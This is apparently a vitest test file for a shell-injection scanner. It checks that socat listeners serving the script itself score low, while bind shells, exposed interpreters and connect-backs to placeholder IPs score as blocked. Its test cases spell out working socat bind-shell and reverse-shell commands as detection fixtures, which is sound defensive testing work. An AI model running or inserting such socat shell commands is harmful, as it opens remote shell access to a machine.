// A script serving itself through a socat listener is an inetd-style server; shells, interpreters, terminals and connect-backs stay reverse shells.

import { describe, expect, test } from "vitest";
import { socatServesSelf } from "../../../src/engine/injection/bash-socat-self.ts";
import { scan } from "../../../src/engine/injection/scan.ts";

const score = (cmd: string): number => scan(cmd, "bash", { model: null }).score;

describe("bash-socat-self: a script serving itself", () => {
  test.each([
    [
      "bashbro's file server",
      'declare PROG="${0}"\nsocat TCP4-LISTEN:${LISTEN_PORT},fork EXEC:"${PROG} -j=${JAIL}" 2>/dev/null',
    ],
    ["the script path direct", 'socat TCP-LISTEN:8080,reuseaddr,fork SYSTEM:"$0 --serve"'],
    ["through BASH_SOURCE", 'self="${BASH_SOURCE[0]}"\nsocat TCP6-LISTEN:8080,fork EXEC:"$self handle"'],
  ])("%s: below warn", (_name, cmd) => {
    expect(score(cmd)).toBeLessThan(0.5);
  });
  test.each([
    ["a bind shell", "socat TCP4-LISTEN:4444,fork EXEC:/bin/bash,pty,stderr"],
    ["a bare bash", "socat TCP-LISTEN:4444,fork EXEC:bash"],
    ["a connect-back running the script", 'socat TCP:203.0.113.9:4444 EXEC:"$0 --x"'],
    ["another program in a variable", 'PROG=/tmp/x\nsocat TCP4-LISTEN:8080,fork EXEC:"$PROG"'],
    ["the script with a terminal", 'socat TCP-LISTEN:9001,reuseaddr,fork EXEC:"$0",pty'],
    ["an interpreter", "socat TCP-LISTEN:9001,fork EXEC:'python3 -i'"],
    [
      "a variable set to the script and to a shell",
      'P="$0"\n[ -n "$X" ] && P=/bin/sh\nsocat TCP-LISTEN:9001,fork EXEC:"$P"',
    ],
  ])("%s: blocked", (_name, cmd) => {
    expect(score(cmd)).toBeGreaterThanOrEqual(0.8);
  });
  test("socatServesSelf unit", () => {
    const cmd = 'socat TCP-LISTEN:80,fork EXEC:"$0 x"';
    expect(socatServesSelf(cmd, cmd.toLowerCase(), cmd)).toBe(true);
    const back = 'socat OPENSSL:198.51.100.7:443 EXEC:"$0 x"';
    expect(socatServesSelf(back, back.toLowerCase(), back)).toBe(false);
  });
});
